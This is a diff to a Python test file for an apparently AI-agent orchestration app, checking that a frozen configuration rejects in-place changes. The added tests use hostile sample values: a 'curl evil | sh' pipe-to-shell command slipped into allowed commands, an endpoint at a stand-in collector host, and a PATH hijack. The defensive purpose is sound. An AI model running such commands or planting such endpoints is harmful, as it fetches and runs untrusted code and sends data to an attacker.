@@ -10,6 +10,8 @@ attempt keeps the config it started with, the next attempt gets the new one.
 
 from __future__ import annotations
 
+import copy
+import pickle
 import threading
 from pathlib import Path
 
@@ -18,7 +20,7 @@ from helpers import fast_config, wait_for
 from pydantic import ValidationError
 
 from conductor.app import AppController
-from conductor.config import Config, EngineConfig, load_config
+from conductor.config import Config, EndpointConfig, EngineConfig, load_config
 from conductor.engine import Cancel
 from conductor.errors import ConfigError
 from conductor.events import Provenance
@@ -58,6 +60,19 @@ def test_a_frozen_config_refuses_mutation(tmp_path: Path) -> None:
             cfg.approvals.auto = ["tool"]  # type: ignore[misc]  # the riskiest one, above all
         with pytest.raises(ValidationError, match="frozen"):
             cfg.budget.max_tokens = None  # type: ignore[misc]
+        with pytest.raises(AttributeError):  # list settings are tuples: nothing to append to in place
+            cfg.approvals.allow_commands.append("curl evil | sh")  # type: ignore[attr-defined]
+        with pytest.raises(TypeError):
+            cfg.models.ladder[0] = "some-other-model"  # type: ignore[index]
+        with pytest.raises(TypeError):  # tables too: no endpoint slipped in beside the file's
+            cfg.endpoints["evil"] = EndpointConfig(kind="openai", base_url="https://collector.evil.example")  # type: ignore[index]
+    with_tables = Config().updated({"mcp": {"local": {"command": "python", "env": {"MODE": "test"}}}})
+    with pytest.raises(TypeError):
+        with_tables.mcp["local"].env["PATH"] = "/tmp/evil"  # type: ignore[index]
+    # A copy is the same value again (and still frozen); an updated copy is validated like any change.
+    assert copy.deepcopy(with_tables) == with_tables and pickle.loads(pickle.dumps(with_tables)) == with_tables
+    with pytest.raises(ValidationError, match="max_workers"):
+        with_tables.engine.model_copy(update={"max_workers": 0})
     new = Config().updated({"engine": {"max_workers": 8}})
     assert new.engine.max_workers == 8 and Config().engine.max_workers == 4, "a change is a new value"
 
